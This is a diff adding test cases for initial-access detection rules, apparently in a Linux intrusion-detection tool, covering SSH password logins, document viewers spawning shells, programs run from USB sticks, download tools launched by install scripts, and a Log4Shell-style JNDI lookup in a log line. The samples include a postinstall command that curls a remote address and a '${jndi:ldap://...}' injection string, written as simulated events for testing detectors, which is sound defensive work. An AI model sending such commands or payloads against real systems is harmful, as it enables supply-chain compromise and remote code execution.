@@ -92,4 +92,53 @@ testContent('initial-access.yaml', {
       'another program says so': (s) => s.log('app[812]: Accepted password for root from 203.0.113.9 port 40122 ssh2'),
     },
   },
+  'Login from the internet with a password': {
+    as: 'notice initial-access T1078.003',
+    fires: { 'of a user': (s) => s.log('sshd[90]: Accepted password for ann from 203.0.113.9 port 4000 ssh2') },
+    quiet: {
+      'with a key': (s) =>
+        s.log('sshd[90]: Accepted publickey for ann from 203.0.113.9 port 4000 ssh2: ED25519 SHA256:abc'),
+      'from the house': (s) => s.log('sshd[90]: Accepted password for ann from 10.0.0.9 port 4000 ssh2'),
+    },
+  },
+  'Shell started by a viewer of documents': {
+    as: 'warning initial-access execution T1566.001 T1204.002',
+    fires: { 'an office': (s) => s.start('/bin/sh -c x', s.start('/usr/lib/libreoffice/program/soffice.bin x.odt')) },
+    quiet: {
+      'a link is opened': (s) =>
+        s.start('/bin/sh /usr/bin/xdg-open https://x.example', s.start('/usr/bin/evince x.pdf')),
+      'a terminal': (s) => s.start('/bin/bash', s.start('/usr/bin/gnome-terminal-server')),
+    },
+  },
+  'Program run from a removable disk': {
+    as: 'notice initial-access T1091',
+    fires: { 'a stick': (s) => s.start('/media/ann/STICK/setup') },
+    quiet: {
+      'a film on it': (s) => s.start('/usr/bin/vlc /media/ann/STICK/a.mkv'),
+      'a program elsewhere': (s) => s.start('/opt/media/setup'),
+    },
+  },
+  'Download tool started by an install script': {
+    as: 'warning initial-access T1195.002',
+    fires: {
+      npm: (s) =>
+        s.start(
+          '/usr/bin/curl http://203.0.113.9/x',
+          s.start(['sh', '-c', 'node postinstall.js || curl http://203.0.113.9/x'], s.shell, {}, '/usr/bin/dash'),
+        ),
+      pip: (s) => s.start('/usr/bin/wget u', s.start('/usr/bin/python3 setup.py install')),
+    },
+    quiet: {
+      'a person': (s) => s.start('/usr/bin/curl u'),
+      'a build': (s) => s.start('/usr/bin/curl u', s.start('/usr/bin/make deps')),
+    },
+  },
+  'Attack on a library seen in a log': {
+    as: 'notice initial-access T1190',
+    fires: { 'the common text': (s) => s.log(`app[90]: GET /?q=$${'{'}jndi:ldap://203.0.113.9/a}`) },
+    quiet: {
+      'a variable': (s) => s.log('app[90]: path is $HOME/x'),
+      'a price': (s) => s.log('app[90]: $5 {per} item'),
+    },
+  },
 });
